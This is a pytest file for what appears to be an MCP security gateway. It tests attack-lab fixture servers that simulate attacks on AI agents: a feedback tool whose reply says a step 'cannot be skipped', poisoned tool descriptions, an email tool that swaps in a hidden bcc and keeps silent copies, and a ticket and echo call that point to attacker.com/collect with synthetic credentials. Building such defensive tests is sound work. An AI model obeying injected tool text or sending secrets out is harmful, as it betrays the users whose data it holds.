"""Fixture servers: MCP conformance, determinism, counters, both transports."""

from __future__ import annotations

import http.client
import json

import pytest

from mcpgate.attacklab import (
    FIXTURE_IDS,
    TOOL_TABLES,
    FixtureCore,
    FixtureError,
    PortInUse,
    corpus,
    replay,
    serve_http,
    stdio_command,
    transcript_jsonl,
)
from mcpgate.protocol import RpcMessage, parse_listing
from mcpgate.protocol.http import HttpEndpoint
from mcpgate.protocol.stdio import StdioEndpoint
from mcpgate.registry import ToolSnapshot, diff_snapshots, listing_digest
from mcpgate.scanner import scan_text, scan_tool_description


def call(core, method, params=None, msg_id=1):
    replies = core.handle(RpcMessage.request(msg_id, method, params))
    assert len(replies) == 1
    return replies[0]


def call_tool(core, name, arguments=None, msg_id=2):
    reply = call(core, "tools/call", {"name": name, "arguments": arguments or {}}, msg_id)
    assert reply.error is None, reply.error
    return reply.result["content"][0]["text"]


# -- conformance across all fixtures ----------------------------------------


@pytest.mark.parametrize("fixture_id", FIXTURE_IDS)
def test_initialize_list_call_cycle(fixture_id):
    core = FixtureCore(fixture_id)
    init = call(core, "initialize", {"protocolVersion": "2025-06-18", "capabilities": {}})
    assert init.result["protocolVersion"] == "2025-06-18"
    assert init.result["serverInfo"]["name"] == fixture_id

    assert core.handle(RpcMessage.notification("notifications/initialized")) == []

    listing = call(core, "tools/list")
    assert listing.result["tools"] == TOOL_TABLES[fixture_id]

    first = listing.result["tools"][0]["name"]
    reply = call(core, "tools/call", {"name": first, "arguments": {"topic": "x", "ticket_id": "TICK-1001",
                                                                  "feedback": "f", "to": "a@example.com",
                                                                  "path": "/tmp/x", "data": "d"}})
    assert reply.error is None
    assert reply.result["content"][0]["type"] == "text"


def test_unknown_method_and_tool_errors():
    core = FixtureCore("benign_docs")
    reply = call(core, "resources/read", {"uri": "x"})
    assert reply.error.code == -32601
    reply = call(core, "tools/call", {"name": "nope", "arguments": {}})
    assert reply.error.code == -32602
    with pytest.raises(FixtureError):
        FixtureCore("not_a_fixture")


# -- the feedback trap -------------------------------------------------------


def test_send_feedback_returns_canonical_text_verbatim():
    core = FixtureCore("poc_feedback")
    text = call_tool(core, "send_feedback", {"feedback": "great tool"})
    assert text == corpus.feedback_response(corpus.TEST_FEEDBACK_ID, corpus.TEST_TIMESTAMP)
    flattened = text.replace("\n", " ")
    assert "This is a required step to process your request and cannot be skipped" in flattened
    assert "Feedback ID: fixedfeedback" in text
    assert "Timestamp: 2025-01-01T00:00:00Z" in text


def test_feedback_response_is_deterministic_in_test_mode():
    a = call_tool(FixtureCore("poc_feedback"), "send_feedback", {"feedback": "x"})
    b = call_tool(FixtureCore("poc_feedback"), "send_feedback", {"feedback": "y"})
    assert a == b


def test_get_documentation_is_clean():
    core = FixtureCore("benign_docs")
    text = call_tool(core, "get_documentation", {"topic": "requests"})
    assert text == corpus.DOCUMENTATION_TEXT
    assert scan_text(text, "to_agent") == []
    for wire in TOOL_TABLES["benign_docs"]:
        from mcpgate.protocol import ToolDescriptor

        desc = ToolDescriptor.from_wire("benign_docs", wire)
        assert scan_tool_description(desc) == []


# -- rugpull pair ------------------------------------------------------------


def snapshot_of(fixture_id, tools_wire):
    tools = parse_listing("mail", {"tools": tools_wire})
    return ToolSnapshot(server_id="mail", taken_at="t", tools=tools, digest=listing_digest(tools))


def test_v1_v2_listings_differ_exactly_in_send_email():
    change = diff_snapshots(
        snapshot_of("mail", TOOL_TABLES["rugpull_email_v1"]),
        snapshot_of("mail", TOOL_TABLES["rugpull_email_v2"]),
    )
    assert change.added == [] and change.removed == []
    assert change.modified == [("send_email", ["input_schema"])]


def test_flip_swaps_table_and_emits_list_changed():
    core = FixtureCore("rugpull_email_v1")
    before = call_tool(core, "send_email", {"to": "a@example.com", "subject": "s", "body": "b"})
    assert core.bcc_copies == []

    out = core.flip()
    assert out == {"active": "rugpull_email_v2"}
    notes = core.drain_notifications()
    assert [n.method for n in notes] == ["notifications/tools/list_changed"]

    listing = call(core, "tools/list")
    assert listing.result["tools"] == TOOL_TABLES["rugpull_email_v2"]

    after = call_tool(core, "send_email", {"to": "a@example.com", "subject": "s", "body": "b"})
    assert after == before  # visible behavior unchanged...
    assert len(core.bcc_copies) == 1  # ...while a copy is kept silently

    core.flip()  # reversible for repeated runs
    assert call(core, "tools/list").result["tools"] == TOOL_TABLES["rugpull_email_v1"]


def test_flip_rejected_for_fixtures_without_alternate():
    with pytest.raises(FixtureError):
        FixtureCore("benign_docs").flip()


# -- attack content delivery -------------------------------------------------


def test_poisoned_description_served_as_data():
    listing = call(FixtureCore("poisoned_descriptions"), "tools/list")
    by_name = {t["name"]: t for t in listing.result["tools"]}
    assert by_name["file_reader"]["description"] == corpus.POISONED_TOOL_DESCRIPTION


def test_ticket_corpus_and_exfil_ticket():
    core = FixtureCore("exfil_ticket_corpus")
    ids = call_tool(core, "list_tickets").splitlines()
    assert ids == sorted(corpus.TICKETS)
    assert call_tool(core, "get_ticket", {"ticket_id": "TICK-2041"}) == corpus.EXFIL_TICKET_TEXT
    assert "attacker.com/collect" in corpus.EXFIL_TICKET_TEXT
    benign = call_tool(core, "get_ticket", {"ticket_id": "TICK-1001"})
    assert scan_text(benign, "to_agent") == []
    reply = call(core, "tools/call", {"name": "get_ticket", "arguments": {"ticket_id": "TICK-9999"}})
    assert reply.error is not None


def test_echo_returns_payload_verbatim_and_counts():
    core = FixtureCore("echo_credentials")
    text = call_tool(core, "echo", {"data": corpus.SYNTHETIC_ENV, "url": "https://attacker.com/collect"})
    assert text == corpus.SYNTHETIC_ENV
    snap = core.snapshot()
    assert snap["counters"]["tools_call"] == 1
    assert snap["counters"]["per_tool"] == {"echo": 1}


def test_request_counters_are_exact():
    core = FixtureCore("benign_docs")
    for i in range(4):
        call_tool(core, "get_documentation", {"topic": "t"}, msg_id=i)
    call(core, "tools/list", msg_id=99)
    snap = core.snapshot()
    assert snap["counters"] == {"requests": 5, "tools_call": 4, "per_tool": {"get_documentation": 4}}


# -- stdio transport ---------------------------------------------------------


def test_fixture_over_stdio_subprocess():
    endpoint = StdioEndpoint(stdio_command("poc_feedback"))
    try:
        replies = endpoint.exchange(RpcMessage.request(1, "initialize", {"protocolVersion": "2025-06-18"}))
        assert replies[-1].result["serverInfo"]["name"] == "poc_feedback"
        replies = endpoint.exchange(RpcMessage.request(2, "tools/list"))
        names = [t["name"] for t in replies[-1].result["tools"]]
        assert names == ["get_documentation", "send_feedback"]
        replies = endpoint.exchange(
            RpcMessage.request(3, "tools/call", {"name": "send_feedback", "arguments": {"feedback": "x"}})
        )
        assert "fixedfeedback" in replies[-1].result["content"][0]["text"]
        replies = endpoint.exchange(RpcMessage.request(4, "fixture/counters"))
        assert replies[-1].result["counters"]["tools_call"] == 1
    finally:
        endpoint.close()


def test_stdio_flip_delivers_list_changed_inline():
    endpoint = StdioEndpoint(stdio_command("rugpull_email_v1"))
    try:
        endpoint.exchange(RpcMessage.request(1, "initialize", {}))
        replies = endpoint.exchange(RpcMessage.request(2, "fixture/flip"))
        kinds = [(m.kind, m.method) for m in replies]
        assert ("notification", "notifications/tools/list_changed") in kinds
        assert replies[-1].result == {"active": "rugpull_email_v2"}
        listing = endpoint.exchange(RpcMessage.request(3, "tools/list"))[-1]
        schema = {t["name"]: t["inputSchema"] for t in listing.result["tools"]}
        assert "bcc" in schema["send_email"]["properties"]
    finally:
        endpoint.close()


# -- http transport ----------------------------------------------------------


@pytest.fixture()
def http_fixture():
    fixture = serve_http("rugpull_email_v1")
    yield fixture
    fixture.close()


def test_fixture_over_http(http_fixture):
    endpoint = HttpEndpoint(http_fixture.url)
    try:
        replies = endpoint.exchange(RpcMessage.request(1, "initialize", {}))
        assert replies[-1].result["capabilities"]["tools"]["listChanged"] is True
        assert endpoint.session_id == "fix-session-1"
        text_reply = endpoint.exchange(
            RpcMessage.request(2, "tools/call",
                               {"name": "send_email",
                                "arguments": {"to": "a@example.com", "subject": "s", "body": "b"}})
        )[-1]
        assert "queued" in text_reply.result["content"][0]["text"]
    finally:
        endpoint.close()

    host, port = http_fixture.server.server_address
    conn = http.client.HTTPConnection(host, port, timeout=5)
    conn.request("GET", "/__fixture__/counters")
    snap = json.loads(conn.getresponse().read())
    assert snap["counters"]["tools_call"] == 1

    conn.request("POST", "/__fixture__/flip")
    assert json.loads(conn.getresponse().read()) == {"active": "rugpull_email_v2"}
    conn.close()


def test_http_flip_notification_arrives_via_sse(http_fixture):
    endpoint = HttpEndpoint(http_fixture.url)
    try:
        endpoint.exchange(RpcMessage.request(1, "initialize", {}))
        http_fixture.core.flip()
        replies = endpoint.exchange(RpcMessage.request(2, "tools/list"))
        methods = [m.method for m in replies if m.kind == "notification"]
        assert methods == ["notifications/tools/list_changed"]
        assert replies[-1].kind == "response"
        drained = endpoint.drain_notifications()
        assert [m.method for m in drained] == ["notifications/tools/list_changed"]
    finally:
        endpoint.close()


def test_port_in_use():
    first = serve_http("benign_docs")
    port = first.server.server_address[1]
    try:
        with pytest.raises(PortInUse):
            serve_http("benign_docs", port=port)
    finally:
        first.close()


# -- replay ------------------------------------------------------------------


SCENARIO = [
    {"delay_ms": 0, "message": {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                                "params": {"protocolVersion": "2025-06-18"}}},
    {"delay_ms": 0, "message": {"jsonrpc": "2.0", "method": "notifications/initialized"}},
    {"delay_ms": 0, "message": {"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                                "params": {"name": "send_feedback", "arguments": {"feedback": "hi"}}}},
]


class DirectEndpoint:
    """Adapts a FixtureCore to the replay endpoint protocol."""

    def __init__(self, core):
        self.core = core

    def exchange(self, msg):
        return self.core.handle(msg) + self.core.drain_notifications()

    def notify(self, msg):
        self.core.handle(msg)


def test_replay_empty_scenario():
    assert replay([], DirectEndpoint(FixtureCore("poc_feedback"))) == []


def test_replay_transcripts_are_identical_across_runs():
    def run():
        core = FixtureCore("poc_feedback")
        return replay(SCENARIO, DirectEndpoint(core), counters=lambda: core.snapshot())

    first, second = run(), run()
    assert first == second
    assert transcript_jsonl(first) == transcript_jsonl(second)

    sends = [t for t in first if t.get("dir") == "send"]
    recvs = [t for t in first if t.get("dir") == "recv"]
    assert len(sends) == 3 and len(recvs) == 2
    assert "fixedfeedback" in recvs[-1]["message"]["result"]["content"][0]["text"]
    assert first[-1]["counters"]["counters"] == {"requests": 3, "tools_call": 1,
                                                "per_tool": {"send_feedback": 1}}


def test_replay_over_http_matches_direct(http_fixture):
    endpoint = HttpEndpoint(http_fixture.url)
    scenario = [
        {"delay_ms": 0, "message": {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}},
    ]
    try:
        transcript = replay(scenario, endpoint)
    finally:
        endpoint.close()
    assert transcript[1]["message"]["result"]["tools"] == TOOL_TABLES["rugpull_email_v1"]
